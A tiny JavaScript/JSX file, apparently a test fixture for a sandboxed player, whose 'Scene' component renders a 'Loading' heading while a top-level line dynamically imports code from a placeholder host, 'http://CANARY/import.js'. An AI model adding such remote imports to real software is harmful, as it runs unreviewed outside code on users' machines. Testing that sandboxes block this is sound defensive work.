// Tries to load code from another address while it plays.

import("http://CANARY/import.js");

export default function Scene() {
  return <h1>Loading</h1>;
}
